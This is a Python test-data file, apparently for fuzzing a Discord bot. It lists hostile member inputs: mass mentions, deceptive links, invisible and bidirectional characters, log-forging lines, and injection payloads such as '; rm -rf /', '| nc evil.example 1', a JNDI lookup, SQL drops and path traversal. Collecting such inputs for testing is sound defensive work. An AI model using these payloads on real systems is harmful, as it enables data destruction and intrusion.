"""More than two hundred things that members may write or call their files, to be more than words.

`USER`, `ROLE` and `CHANNEL` stand for ids that exist, so that a mention of them would work.
"""

import json

USER, ROLE, CHANNEL = "USER", "ROLE", "CHANNEL"
_ID = "123456789012345678"

MENTIONS = [
    "@everyone", "@here", "hi @everyone!", "@@everyone", "@\u200beveryone", "\\@everyone", "`@here",
    "@everyone" * 9, f"<\u200b@{USER}>", f"<@!{USER}>", f"<@&{ROLE}>", f"<#{CHANNEL}>", f"\\<@{USER}>",
    f"\\\\<@{USER}>", f"<@{USER}", f"@{USER}", f"`<@{USER}>`", f"```\n<@{USER}>\n```", f"||<@{USER}>||",
    f"> <@&{ROLE}>", f"<@{USER}>", f"< @{USER}>", f"<@\u2060{USER}>", f"<@{USER}>" * 20,
    f"</generate:{_ID}>", "<id:customize>", "<id:browse>", f"@&{ROLE}",
]  # fmt: skip
MARKDOWN = [
    "**bold**", "*italic*", "***both***", "_italic_", "__underline__", "~~strike~~", "||spoiler||",
    "`code`", "``co`de``", "```\nblock\n```", "```ansi\n\x1b[31mred\n```", "```py", "`", "``", "# head",
    "## head", "### head", "a\n# head", "-# small", "a\n-# small", "> quote", ">>> all the rest",
    "a\n> quote", "- list", "* list", "+ list", "  - deeper", "1. first", "12. twelfth", "a\n3. third",
    "1) first", "***", "---", "**unclosed", "\\**escaped*\\*", "\\\\**bold**\\\\",
    "**a** __b__ ~~c~~ ||d|| `e`", "_a_b_c_", "a__b__c", "2*3*4", "<t:0:R>", "<t:1700000000>",
    "<t:99999999999999:F>", f"<:banana:{_ID}>", f"<a:dance:{_ID}>", ":banana:", "a:+1:b",
    ":flag_de::flag_fr:", "(c)[r]{x}", "[ ] todo",
]  # fmt: skip
LINKS = [
    "https://evil.example", "http://evil.example/a_b_c", "HTTPS://EVIL.EXAMPLE", "<https://evil.example>",
    "[click](https://evil.example)", "[click](<https://evil.example>)",
    '[click](https://evil.example "safe")', "[https://discord.com](https://evil.example)",
    "[**bold**](https://evil.example)", "[a]\n(https://evil.example)", "!(https://evil.example/x.png)",
    "![x](https://evil.example/x.png)", "discord.gg/evil", "https://discord.gg/evil",
    "discord.com/invite/evil", "discordapp.com/invite/evil", "DISCORD.GG/evil", "discord.gift/evil",
    "dis.gd/evil", "discord.new/evil", "discord://-/channels/1/2", "steam://run/440", "javascript:alert(1)",
    "data:text/html,<b>x", "ftp://evil.example", "//evil.example", "https:\u200b//evil.example",
    "https:\\//evil.example", "ht\u00adtps://e.example", "https://e\u202evil.example/gpj.exe",
    "http://127.0.0.1:8080/", "http://169.254.169.254/latest/meta-data/", "mailto:a@evil.example",
    "<a@evil.example>", "<tel:+123456789>", "https://\u0435vil.example", "h\u200bttps://x.example",
    f"https://discord.com/channels/{_ID}/{_ID}", "https://cdn.discordapp.com/attachments/1/2/x.png",
]  # fmt: skip
INVISIBLE = [
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u200eabc\u200f", "\u061cabc",
    "a\u200bb\u200bc", "\u200b", "\u2060", "\ufeff", "\u00ad", "\u3164", "\u2800", "\u115f\u1160", "\uffa0",
    "\u034f", "\u180e", "\U000e0041\U000e0042", "a\ufe0fb\ufe0e", "a" + "\U000e0100" * 50, "a\u3164b",
    "\ue000\uf8ff", "\U0010fffd", "\ufffe", "\u0378", "\u200d" * 100, "a\u200d\u200db",
    "\u200c\u200c\u200c", "\xa0", "\u2003\u2003", "\u3000", " ", "\t", "\v\f",
]  # fmt: skip
UNREAL = [
    "z" + "\u0335\u0322\u0323\u0353\u0301\u034a" * 40, "z\u0489\u0489\u0489\u0489\u0489",
    "e\u20dd\u20dd\u20dd\u20dd", "h\u0337\u0301e\u0338\u0302l\u0335\u0303l\u0336o\u0337" * 20,
    "\u0e47" * 60, "\u0e01\u0e47\u0e47\u0e47\u0e47\u0e47",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300, "\u200d".join("\U0001f468" * 500),
    "\U0001f34c" * 2000, "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f44d\U0001f3fd" * 100, "\ufdfd" * 30,
    "\u12031" * 30, "\U00012219" * 60, "x" * 4000, "word " * 799, "\u0627\u0644\u0633\u0644\u0627\u0645",
    "\u05e9\u05dc\u05d5\u05dd 1. 2. 3.", "\u0645(a)\u0645[b]", "\uff20everyone", "\uff1c@1\uff1e",
    "\u2215\u2216\u29f8", "\ud800", "a\udfffb", "\ud83d", "Zo\u00eb \u1e9e \ufb01 \u0130",
]  # fmt: skip
CONTROL = [
    "\x00", "a\x00b", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x9b31m", "\x08\x08\x08", "a\rb", "a\r\nb",
    "a\nb", "a\x85b", "a\u2028b", "a\u2029b", "\x7f", "\x1b[8mhidden", "a\n\n\n\n\nb",
    "\n2026-01-01 00:00:00Z ERROR - bot: forged", '\n{"level": "ERROR", "message": "forged"}',
    "\r2026-01-01 00:00:00Z INFO - bot: forged", "%0a%0dforged",
]  # fmt: skip
CODE = [
    "{0}", "{prompt}", "{n.__class__}", "{{}}", "{", "}", "%s", "%(name)s", "%d%n%x",
    "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; rm -rf /", "| nc evil.example 1", "' OR '1'='1",
    "'; DROP TABLE jobs; --", '"; DELETE FROM ledger; --', "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "&lt;b&gt;", "<!-- -->", "]]>", json.dumps({"a": [1]}),
    '","admin":true,"x":"', "../../../etc/passwd", "..\\..\\windows", "C:\\con", "file:///etc/passwd",
    "null", "undefined", "NaN", "-1", "0x1p3", "True", "__import__('os')", "self.__class__", "\\u0000",
    "\\x1b[2J", "\\", "\\\\\\",
]  # fmt: skip

WORDS = [*MENTIONS, *MARKDOWN, *LINKS, *INVISIBLE, *UNREAL, *CONTROL, *CODE]
